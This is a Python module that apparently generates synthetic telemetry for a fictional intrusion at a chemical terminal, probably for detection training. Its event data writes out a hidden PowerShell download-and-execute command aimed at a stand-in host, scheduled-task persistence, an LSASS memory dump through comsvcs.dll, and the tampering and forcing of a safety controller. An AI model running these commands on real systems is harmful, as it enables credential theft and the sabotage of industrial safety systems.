"""The intrusion at the chemical terminal, event by event; the README tells it hour by hour."""

from datetime import UTC, datetime

from . import events
from .background import LSASS, OFFICE, POWERSHELL, SYSTEM32
from .chance import Chance
from .events import Event

VICTIM, SERVER, STATION = "MCT-OFF-07", "MCT-SRV-02", "MCT-EWS-01"
CLERK, ADMIN, ENGINEER = "MCT\\s.pendrake", "MCT\\srv-backup", "MCT\\engineering"
OUTSIDE = "203.0.113.66"  # documentation range (RFC 5737)


def _at(day: int, hour: int, minute: int, second: int = 0) -> datetime:
    return datetime(2031, 3, day, hour, minute, second, 417_000, tzinfo=UTC)


def on_windows() -> list[Event]:
    """Office machine, file server, engineering workstation."""
    chance = Chance("story")
    cmd, word = SYSTEM32 + "cmd.exe", OFFICE + "WINWORD.EXE"
    fetch = (
        "powershell.exe -nop -w hidden IEX (New-Object Net.WebClient)"
        ".DownloadString('https://cdn.tarnhelm-update.invalid/a.txt')"
    )
    task = 'schtasks.exe /create /sc hourly /tn OneSync /tr "C:\\Users\\s.pendrake\\AppData\\Local\\onesync.exe"'
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\d.bin full"
    return [
        events.process(_at(4, 9, 12, 31), VICTIM, CLERK, word, cmd, "cmd.exe /c start /b powershell", chance),
        events.process(_at(4, 9, 12, 33), VICTIM, CLERK, word, POWERSHELL, fetch, chance),
        events.lookup(_at(4, 9, 12, 35), VICTIM, POWERSHELL, "cdn.tarnhelm-update.invalid"),
        events.process(_at(4, 13, 40, 8), VICTIM, CLERK, cmd, SYSTEM32 + "schtasks.exe", task, chance),
        events.process(_at(5, 22, 48, 2), VICTIM, "NT AUTHORITY\\SYSTEM", cmd, SYSTEM32 + "rundll32.exe", dump, chance),
        events.access(_at(5, 22, 48, 3), VICTIM, SYSTEM32 + "rundll32.exe", LSASS, "0x1fffff"),
        events.access(_at(5, 22, 51, 44), VICTIM, "C:\\Users\\Public\\onesync.exe", LSASS, "0x1410"),
        events.logon(_at(6, 1, 14, 50), SERVER, ADMIN, 3, "10.40.2.47"),
        events.service(
            _at(6, 1, 15, 6), SERVER, "tarnhelm", "\\\\127.0.0.1\\ADMIN$\\Temp\\tarnhelm.exe", "LocalSystem"
        ),
        events.process(
            _at(6, 1, 15, 9),
            SERVER,
            "NT AUTHORITY\\SYSTEM",
            SYSTEM32 + "services.exe",
            "C:\\Windows\\Temp\\tarnhelm.exe",
            "tarnhelm.exe -s",
            chance,
        ),
        events.logon(_at(7, 23, 20, 12), STATION, ENGINEER, 10, "10.40.4.12"),
        events.process(
            _at(8, 2, 7, 40),
            STATION,
            ENGINEER,
            "C:\\Windows\\explorer.exe",
            "C:\\Program Files\\Orlane\\SafetyBuilder.exe",
            "SafetyBuilder.exe /export SIS-1",
            chance,
        ),
        events.logon(_at(9, 1, 58, 27), STATION, ENGINEER, 10, "10.40.4.12"),
        events.process(
            _at(9, 2, 9, 15),
            STATION,
            ENGINEER,
            "C:\\Windows\\explorer.exe",
            "C:\\Program Files\\Orlane\\SafetyBuilder.exe",
            "SafetyBuilder.exe /open D:\\work\\sis1_r8.sbp",
            chance,
        ),
        events.cleared(_at(9, 3, 30, 51), STATION, ENGINEER),
    ]


def on_firewalls() -> list[Event]:
    """The way out, and the way into the control zone."""
    server, station = ("office", "10.40.4.12"), ("control", "10.40.16.20")
    return [
        events.traffic(_at(4, 9, 12, 36), "FW-MCT-1", ("office", "10.40.2.47"), ("internet", OUTSIDE), 443, "allow"),
        events.traffic(_at(7, 23, 19, 58), "FW-MCT-1", server, station, 3389, "allow"),
        events.traffic(_at(9, 1, 58, 20), "FW-MCT-1", server, station, 3389, "allow"),
    ]


def on_controllers() -> list[Event]:
    """The safety controller is given another project; two of its inputs are held; then its log stops."""
    return [
        events.controller(_at(9, 2, 12), "SIS-1", "key_switch", "PROGRAM", position="PROGRAM"),
        events.controller(
            _at(9, 2, 14, 22), "SIS-1", "project_download", "PROGRAM", version="8.0", source_ip="10.40.16.20"
        ),
        events.controller(_at(9, 2, 20, 3), "SIS-1", "point_forced", "RUN", point="PT-1104", value=3.2),
        events.controller(_at(9, 2, 20, 9), "SIS-1", "point_forced", "RUN", point="XV-1110", value=1),
    ]
